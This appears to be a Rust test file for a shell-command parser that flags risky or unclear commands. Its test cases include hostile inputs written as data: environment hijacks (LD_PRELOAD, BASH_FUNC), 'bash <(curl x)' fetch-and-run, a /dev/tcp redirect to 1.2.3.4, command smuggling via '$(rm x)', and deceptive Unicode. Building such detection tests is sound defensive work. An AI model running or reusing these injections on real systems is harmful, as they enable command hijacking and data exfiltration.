//! Unclear commands, by example: nothing unknown counts as known.

use bosun_shell_parser::parse;

use crate::reading::check;

#[test]
fn variables_that_change_programs_are_risky_or_unclear() {
    check(&[
        ("LD_PRELOAD=./x ls", "ls!"),
        ("GIT_SSH_COMMAND='sh -c id' git fetch", "git!"),
        ("PATH=/tmp ls", "ls!"),
        ("PATH=/tmp", "?"),
        ("x=1", ""),
        ("IFS=: read -r a b", "read!"),
        ("export LANG=C", "export"),
        ("export PATH=/tmp:$PATH", "?, export!"),
        ("export FOO=1", "?, export"),
        ("declare -x foo=1", "?, declare"),
        ("declare -n ref=PATH", "?, declare"),
        ("local x=1", "local"),
        ("readonly PATH", "?, readonly"),
        ("unset PATH", "?, unset"),
        ("unset -f ls", "?, unset"),
        ("for PATH in /tmp; do ls; done", "?, ls"),
        ("read PATH < x", "?, read, <x"),
        ("read -r line", "read"),
        ("printf -v PATH x", "?, printf"),
        ("printf '%n' PATH", "?, printf"),
        ("printf '%5ln' PATH", "?, printf"),
        (r"printf '%s\n' x", "printf"),
        ("ls {PATH}> out", "?, ls, >out"),
        ("BASH_ENV=x bash -c ls", "bash:ls!"),
        ("RUST_LOG=debug cargo test", "cargo"),
    ]);
}

#[test]
fn commands_that_redefine_others_are_unclear() {
    check(&[
        ("eval ls", "?, eval"),
        ("source x", "?, source"),
        (". x", "?, ."),
        ("trap 'rm x' EXIT", "?, trap"),
        ("alias ls=rm", "?, alias"),
        ("enable -n ls", "?, enable"),
        ("shopt -s expand_aliases", "?, shopt"),
        ("set -euo pipefail", "set"),
        ("set -x", "set"),
        ("set -- a b", "?, set"),
        ("set -k", "?, set"),
        ("hash -p /tmp/x ls", "?, hash"),
        ("let x=1", "?, let"),
        ("mapfile -C rm x", "?, mapfile"),
        ("complete -C rm x", "?, complete"),
        ("test -v 'a[$(rm x)]'", "?, test"),
        ("[ -v x ]", "?, ["),
        ("jobs -x rm", "?, jobs"),
        ("builtin eval ls", "?, builtin:eval"),
        ("command . x", "?, command:."),
    ]);
}

#[test]
fn words_expanded_by_the_shell_are_risky() {
    check(&[
        ("$x", "?"),
        ("$(which ls) x", "?, which"),
        (r#""$@""#, "?"),
        ("ls $x", "ls!"),
        (r#"ls "$x""#, "ls!"),
        (r#"ls "src/$x""#, "ls"),
        (r#"ls "-$x""#, "ls!"),
        ("ls src/$x", "ls!"),
        (r#"ls "a$@""#, "ls!"),
        ("ls *.rs", "ls!"),
        ("ls src/*.rs", "ls"),
        ("ls -*", "ls!"),
        ("ls ~/x", "ls!"),
        ("ls ~", "ls!"),
        ("make a=~/x", "make!"),
        ("ls HEAD~1", "ls"),
        ("ls a{b,c}", "ls"),
        ("ls {1..3}", "ls!"),
        ("ls {a,{b,c}}", "ls!"),
        ("ls {~,x}", "ls!"),
        ("/bin/l?", "?"),
        ("ls $IFS-la", "ls!"),
        ("ls${IFS}-la", "?"),
        ("cat /etc/pass[w]d", "cat"),
        (r#"ls $"x""#, "ls!"),
        (r#"ls "${x[@]}""#, "ls!"),
        (r#"ls "${@}""#, "ls!"),
    ]);
}

#[test]
fn ambiguous_syntax_is_unclear() {
    check(&[
        ("echo $((x + 1))", "?, echo"),
        ("echo $((`id`))", "?, echo"),
        ("((i++))", "?"),
        ("for ((i=0; i<3; i++)); do ls; done", "?"),
        ("echo ${x[$(id)]}", "?, echo"),
        ("echo ${x@P}", "?, echo"),
        ("echo ${!x}", "?, echo"),
        ("echo ${x:=y}", "?, echo"),
        ("echo ${x:$y}", "?, echo"),
        (r#"echo ${x:-"$(id)"}"#, "?, echo"),
        ("echo $[1+1]", "?, echo"),
        ("a[1]=x", "?"),
        ("[[ $x -eq 1 ]]", "?"),
        ("[[ -v x ]]", "?"),
        ("[[ a >(id) ]]", "id"),
        ("ls @(a|b)", "?, ls"),
        ("ls 'x", "?, ls"),
        (r#"ls "x"#, "?, ls"),
        ("ls $(x", "?, x, ls"),
        ("ls )", "?, ls"),
        ("ls &&", "?, ls"),
        ("ls | | wc", "?, ls"),
        ("ls ;; wc", "?, ls"),
        ("fi", "?"),
        ("{ ls }", "?, ls"),
        ("if ls; then wc", "?, ls, wc"),
        ("(( ls ) | wc)", "?"),
        ("$((ls) | wc)", "?"),
        (r"`echo \`id\``", "?"),
        ("l\\\ns", "?"),
        ("ls > /dev/tcp/1.2.3.4/80", "?, ls"),
        ("ls <&$x", "?, ls"),
        ("cat <<E\"O\"F\n> #x", "?, cat"),
        ("time (ls)", "?"),
        ("ls > >(wc)x", "?, wc, ls"),
        ("f() ls", "?"),
        ("'f'() { ls; }", "?"),
        ("coproc x { ls; }", "?, x"),
        (r"echo $'\x80'", "?, echo"),
        ("-ls", "?, -ls"),
        ("'l s'", "?, l s"),
    ]);
}

#[test]
fn deceptive_characters_are_unclear() {
    check(&[
        ("ls\u{d}", "?"),
        ("ls\u{0}", "?"),
        ("l\u{200b}s", "?"),
        ("ls\u{a0}-l", "?"),
        ("ls \u{202e}x", "?"),
        ("ls é", "ls"),
        ("ls \u{7}", "?"),
        ("echo ✓", "echo"),
        ("ｌs", "ｌs"),
    ]);
}

#[test]
fn ambiguous_wrapper_options_are_unclear() {
    check(&[
        ("timeout -k $x 5 ls", "?, timeout!"),
        ("timeout -k a* 5 ls", "?, timeout"),
        ("timeout -k {1..3} 5 ls", "?, timeout!"),
        (r#"timeout -k "$x" 5 ls"#, "timeout:ls"),
        ("env $x ls", "?, env!"),
        (r#"env "$x" ls"#, "?, env!"),
        (r#"env "LANG=$x" ls"#, "env:ls!"),
        ("env 'a%=1' rm x", "?, env"),
        ("env 'BASH_FUNC_ls%%=()(rm)' bash -c ls", "?, env"),
        (r#"xargs -d "$x" -I % sh -c '%'"#, "?, xargs:sh!"),
        ("find . -exec alpha {} -exec beta +", "?, find"),
        ("LANG=../../x ls", "ls!"),
        ("LANG=$x", "?"),
        ("bash <(curl x)", "curl, bash!"),
        ("python3 <(curl x)", "curl, python3!"),
        ("cat x | python3 /dev/stdin", "cat, python3!"),
        ("[[ a = b]]\nrm x\n]]", "?"),
        ("declare -a 'x=($(rm y))'", "?, declare"),
        ("local 'x=($(rm y))'", "?, local"),
        ("x=('[$(rm y)]=1')", "?"),
        (r#"x=(1); declare "x=$y""#, "?, declare"),
        (">&-rm x", "?"),
        ("ls >&'$(rm x)'", "?, ls"),
        ("ls >&$x", "?, ls"),
        ("ls >&out", "ls, >out"),
        ("ls >'$(rm x)'", "ls, >$(rm x)"),
        ("ls >& -x", "?, ls"),
        ("ls <&- >& - 2>&1-", "ls"),
    ]);
}

#[test]
fn too_long_scripts_are_unclear() {
    assert!(!parse(&format!("echo {}", "a".repeat(70_000))).unclear.is_empty());
    assert!(!parse(&"env ".repeat(40)).unclear.is_empty());
    assert!(!parse(&"ls;".repeat(5000)).unclear.is_empty());
}
